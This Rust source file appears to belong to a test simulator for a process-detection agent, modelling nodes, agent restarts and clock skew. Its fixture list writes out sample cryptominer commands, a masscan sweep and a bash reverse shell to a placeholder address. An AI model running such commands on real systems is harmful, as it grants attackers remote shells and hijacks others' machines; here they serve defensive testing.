//! One simulated node: the offenders that run on it, and its agent's list.

use std::time::Duration;

use jiff::{SignedDuration, Timestamp, tz};

use super::behaviour::{Behaviour, Mode};
use crate::record::{Record, stamp};

/// How old the timestamps of [`Behaviour::StaleTimestamps`] are when the fleet starts.
const STALE: SignedDuration = SignedDuration::from_hours(6);
/// The zone of timestamps: that of the example in the wire contract, so that readers are tested with offsets.
const ZONE: tz::Offset = tz::offset(8);

pub(super) struct Node {
    number: usize,
    pub(super) behaviour: Behaviour,
    pub(super) mode: Mode,
    /// The offenders that run on the node, whether a scan has seen them or not.
    pub(super) offenders: Vec<Record>,
    pub(super) requests: u64,
    /// The agent's list: each record with the time of its scan.
    listed: Vec<(Timestamp, Record)>,
    /// The index of the offender that is listed next in upstream mode.
    turn: usize,
    scanned: Timestamp,
    started: Timestamp,
}

impl Node {
    pub(super) fn new(number: usize, mode: Mode, offenders: Vec<Record>) -> Self {
        Self {
            number,
            behaviour: Behaviour::Healthy,
            mode,
            offenders,
            requests: 0,
            listed: Vec::new(),
            turn: 0,
            scanned: Timestamp::UNIX_EPOCH,
            started: Timestamp::now(),
        }
    }

    /// One scan. Scans are at least a millisecond apart even when called back to back: timestamps advance.
    pub(super) fn scan(&mut self) {
        let next = self.scanned + Duration::from_millis(1);
        self.scanned = Timestamp::now().max(next);
        if self.mode == Mode::Correct && self.behaviour != Behaviour::OneAtATime {
            self.listed = self.offenders.iter().map(|record| (self.scanned, record.clone())).collect();
            return;
        }
        let whose = self.turn.checked_rem(self.offenders.len()).and_then(|turn| self.offenders.get(turn));
        if let Some(record) = whose {
            self.listed = vec![(self.scanned, record.clone())];
            self.turn += 1;
        }
    }

    /// Restarts the agent, so that its list is empty. The node's processes go on.
    pub(super) fn restart(&mut self) {
        self.listed.clear();
    }

    /// The list of the next answer.
    pub(super) fn list(&self) -> Vec<Record> {
        if self.behaviour == Behaviour::Restarted {
            return Vec::new();
        }
        let shown = |(at, r): &(Timestamp, Record)| Record { timestamp: self.stamp(*at), ..r.clone() };
        self.listed.iter().map(shown).collect()
    }

    /// The tenant that the behaviour puts beside the offenders: its Pod, and a process as the last scan has seen it.
    pub(super) fn neighbour(&self) -> Option<Record> {
        match self.behaviour {
            Behaviour::LongCmdline(_) => Some(self.beside("long")),
            Behaviour::Flood(_) | Behaviour::FloodLong => Some(self.beside("flood")),
            _ => None,
        }
    }

    /// A record of a tenant that only this node has.
    pub(super) fn beside(&self, kind: &str) -> Record {
        let pod = format!("{kind}-{}", self.number);
        Record {
            namespace: format!("ns-{pod}"),
            name: pod.clone(),
            pod,
            process: "xmrig".to_owned(),
            cmdline: "xmrig ".to_owned(),
            regex: "^xmrig$".to_owned(),
            status: "active".to_owned(),
            kind: "app".to_owned(),
            timestamp: self.stamp(self.scanned),
        }
    }

    fn stamp(&self, at: Timestamp) -> String {
        let at = match self.behaviour {
            Behaviour::StaleTimestamps => earlier(self.started, STALE),
            _ => at,
        };
        stamp(&self.skewed(at).to_zoned(tz::TimeZone::fixed(ZONE)))
    }

    /// The agent's own clock, for the `Date` header.
    pub(super) fn clock(&self) -> Timestamp {
        self.skewed(Timestamp::now())
    }

    fn skewed(&self, at: Timestamp) -> Timestamp {
        match self.behaviour {
            Behaviour::Skewed(seconds) => earlier(at, SignedDuration::from_secs(seconds.saturating_neg())),
            _ => at,
        }
    }
}

/// Stays at `at` where the calendar ends.
fn earlier(at: Timestamp, by: SignedDuration) -> Timestamp {
    at.checked_sub(by).unwrap_or(at)
}

/// The `which`-th made-up offender of a node: stable for the same seed, different between nodes.
pub(super) fn offender(seed: u64, node: usize, which: usize, tenants: usize) -> Record {
    const KINDS: [(&str, &str, &str); 4] = [
        ("xmrig", "^xmrig$", "xmrig -o stratum+tcp://pool.example.com:3333 -u 4Ad7 -p x --donate-level 1"),
        ("masscan", "^masscan$", "/usr/bin/masscan 198.51.100.0/24 -p0-65535 --rate 100000"),
        (
            "minerd",
            "^minerd$",
            "/tmp/.x/minerd -a cryptonight -o stratum+tcp://pool.example.com:80 > /dev/null 2>&1",
        ),
        ("bash", "", "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
    ];
    let hash = mix(seed ^ mix(((node as u64) << 32) | which as u64));
    // The first offender of each node is the one that the demo shows.
    let kind = if which == 0 { 0 } else { hash % 4 };
    let (process, regex, cmdline) =
        KINDS.get(usize::try_from(kind).unwrap_or(0)).copied().unwrap_or(("xmrig", "", "xmrig"));
    let pod = format!("web-{node}-{which}-{:08x}", hash >> 32);
    Record {
        name: pod.clone(),
        pod,
        namespace: format!("ns-sim-{}", (node + which) % tenants.max(1)),
        process: process.to_owned(),
        cmdline: cmdline.to_owned(),
        regex: regex.to_owned(),
        status: "active".to_owned(),
        kind: "app".to_owned(),
        timestamp: String::new(),
    }
}

/// Spreads neighbouring numbers over all 64 bits: an xor-shift and multiply finaliser.
fn mix(number: u64) -> u64 {
    let folded = (number ^ (number >> 32)).wrapping_add(0x9e37_79b9_7f4a_7c15);
    let spread = (folded ^ (folded >> 29)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    spread ^ (spread >> 32)
}
